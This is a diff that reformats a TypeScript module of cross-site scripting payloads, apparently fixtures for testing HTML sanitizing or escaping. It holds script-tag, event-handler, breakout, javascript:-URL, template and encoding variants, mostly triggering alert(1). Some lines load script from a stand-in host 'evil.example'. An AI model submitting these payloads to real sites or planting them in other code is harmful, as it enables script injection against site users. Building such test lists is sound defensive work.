@@ -2,10 +2,29 @@
 const RUN = 'alert(1)'
 
 const SCRIPTS = [
-  ...[`<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<ScRiPt >${RUN}</ScRiPt >`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`],
-  ...[`<script type="module">${RUN}</script>`, `<script async>${RUN}</script>`, `<script defer src="data:text/javascript,${RUN}"></script>`],
-  ...['<script src=//evil.example/x.js></script>', '<script src="https://evil.example"></script>', '<script src=data:,alert(1)></script>'],
-  ...[`<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`, `<script>/*<!--*/${RUN}</script>`, `<script x>${RUN}</script y>`],
+  ...[
+    `<script>${RUN}</script>`,
+    `<SCRIPT>${RUN}</SCRIPT>`,
+    `<ScRiPt >${RUN}</ScRiPt >`,
+    `<script\n>${RUN}</script\n>`,
+    `<script/x>${RUN}</script>`,
+  ],
+  ...[
+    `<script type="module">${RUN}</script>`,
+    `<script async>${RUN}</script>`,
+    `<script defer src="data:text/javascript,${RUN}"></script>`,
+  ],
+  ...[
+    '<script src=//evil.example/x.js></script>',
+    '<script src="https://evil.example"></script>',
+    '<script src=data:,alert(1)></script>',
+  ],
+  ...[
+    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+    `<<script>${RUN}//<</script>`,
+    `<script>/*<!--*/${RUN}</script>`,
+    `<script x>${RUN}</script y>`,
+  ],
   ...[
     `<svg><script>${RUN}</script></svg>`,
     '<svg><script href="data:,alert(1)"/>',
@@ -35,7 +54,12 @@ const HANDLERS = [
     '<img src=x onerror=&#97;lert(1)>',
     '<img src=x onerror=\\u0061lert(1)>',
   ],
-  ...[`<img src onerror=${RUN}>`, `<img srcset=x onerror=${RUN}>`, `<img src=/mark.svg onload=${RUN}>`, `<img src="x" alt="" onerror=${RUN}//`],
+  ...[
+    `<img src onerror=${RUN}>`,
+    `<img srcset=x onerror=${RUN}>`,
+    `<img src=/mark.svg onload=${RUN}>`,
+    `<img src="x" alt="" onerror=${RUN}//`,
+  ],
   ...[
     `<svg onload=${RUN}>`,
     `<svg/onload=${RUN}>`,
@@ -48,7 +72,13 @@ const HANDLERS = [
     `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/>`,
     `<svg><image href=x onerror=${RUN}>`,
   ],
-  ...[`<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<body onfocus=${RUN}>`, `<frameset onload=${RUN}>`, `<html onmouseover=${RUN}>`],
+  ...[
+    `<body onload=${RUN}>`,
+    `<body onpageshow=${RUN}>`,
+    `<body onfocus=${RUN}>`,
+    `<frameset onload=${RUN}>`,
+    `<html onmouseover=${RUN}>`,
+  ],
   ...[
     `<iframe onload=${RUN}>`,
     `<iframe src="javascript:${RUN}">`,
@@ -134,7 +164,10 @@ const WAYS_OUT = [
   '</select>',
   '</svg>',
 ]
-const BREAKOUTS = WAYS_OUT.flatMap((way) => [`${way}<img src=x onerror=${RUN}>`, `${way}<svg onload=${RUN}>`]).concat(
+const BREAKOUTS = WAYS_OUT.flatMap((way) => [
+  `${way}<img src=x onerror=${RUN}>`,
+  `${way}<svg onload=${RUN}>`,
+]).concat(
   [
     `" onmouseover="${RUN}`,
     `' onmouseover='${RUN}`,
@@ -143,7 +176,15 @@ const BREAKOUTS = WAYS_OUT.flatMap((way) => [`${way}<img src=x onerror=${RUN}>`,
     `x onerror=${RUN}`,
     `" style="x:expression(${RUN})`,
   ],
-  [`'-${RUN}-'`, `";${RUN}//`, `\\";${RUN}//`, `\${${RUN}}`, `</script><script>${RUN}</script>`, `'}];${RUN};//`, `\u2028${RUN}\u2028`],
+  [
+    `'-${RUN}-'`,
+    `";${RUN}//`,
+    `\\";${RUN}//`,
+    `\${${RUN}}`,
+    `</script><script>${RUN}</script>`,
+    `'}];${RUN};//`,
+    `\u2028${RUN}\u2028`,
+  ],
 )
 
 const ADDRESSES = [
@@ -156,15 +197,33 @@ const ADDRESSES = [
     `\u0001javascript:${RUN}`,
     `javascript\u200b:${RUN}`,
   ],
-  ...[`javascript://%0a${RUN}`, 'javascript:%61lert(1)', '&#106;avascript:alert(1)', '&#x6a&#x61vascript:alert(1)', `vbscript:msgbox(1)`, `livescript:${RUN}`],
+  ...[
+    `javascript://%0a${RUN}`,
+    'javascript:%61lert(1)',
+    '&#106;avascript:alert(1)',
+    '&#x6a&#x61vascript:alert(1)',
+    `vbscript:msgbox(1)`,
+    `livescript:${RUN}`,
+  ],
   ...[
     `data:text/html,<script>${RUN}</script>`,
     'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
     `data:image/svg+xml,<svg onload=${RUN}>`,
     `blob:https://evil.example/x`,
   ],
-  ...[`feed:javascript:${RUN}`, `view-source:javascript:${RUN}`, '\\\\evil.example', `https:javascript:${RUN}`, `<a href="javascript:${RUN}">x</a>`],
-  ...[`[x](javascript:${RUN})`, `![x](x"onerror="${RUN})`, `<javascript:${RUN}>`, `<a href=" &#14; javascript:${RUN}">x</a>`],
+  ...[
+    `feed:javascript:${RUN}`,
+    `view-source:javascript:${RUN}`,
+    '\\\\evil.example',
+    `https:javascript:${RUN}`,
+    `<a href="javascript:${RUN}">x</a>`,
+  ],
+  ...[
+    `[x](javascript:${RUN})`,
+    `![x](x"onerror="${RUN})`,
+    `<javascript:${RUN}>`,
+    `<a href=" &#14; javascript:${RUN}">x</a>`,
+  ],
 ]
 
 const TEMPLATES = [
@@ -177,7 +236,12 @@ const TEMPLATES = [
     `{%25 ${RUN} %25}`,
     `[[${RUN}]]`,
   ],
-  ...[`{name, select, other {<img src=x onerror=${RUN}>}}`, '{count, plural, other {#}}', '{company}<b>{name}</b>', `<b>bold</b><link>x</link>`],
+  ...[
+    `{name, select, other {<img src=x onerror=${RUN}>}}`,
+    '{count, plural, other {#}}',
+    '{company}<b>{name}</b>',
+    `<b>bold</b><link>x</link>`,
+  ],
   ...[`{"type":"doc","content":[{"type":"html","text":"<img onerror=${RUN}>"}]}`, '__proto__', 'constructor'],
 ]
 
@@ -222,12 +286,13 @@ const MUTATIONS = [
 ]
 
 // Those that swallow what follows stand last, so that none hides another where all stand in one text.
-const SWALLOWERS = /<(!--|!\[CDATA|textarea|title|xmp|style|noscript|template|select|iframe|script|plaintext)/i
+const SWALLOWERS =
+  /<(!--|!\[CDATA|textarea|title|xmp|style|noscript|template|select|iframe|script|plaintext)/i
 
 /** Texts that somebody could send in the hope that a page takes them for more than text. */
-export const PAYLOADS: readonly string[] = [...new Set([...SCRIPTS, ...HANDLERS, ...BREAKOUTS, ...ADDRESSES, ...TEMPLATES, ...ENCODED, ...MUTATIONS])].toSorted(
-  (one, other) => Number(SWALLOWERS.test(one)) - Number(SWALLOWERS.test(other)),
-)
+export const PAYLOADS: readonly string[] = [
+  ...new Set([...SCRIPTS, ...HANDLERS, ...BREAKOUTS, ...ADDRESSES, ...TEMPLATES, ...ENCODED, ...MUTATIONS]),
+].toSorted((one, other) => Number(SWALLOWERS.test(one)) - Number(SWALLOWERS.test(other)))
 
 /** All of them in one text. */
 export const ALL_PAYLOADS = PAYLOADS.join(' ')
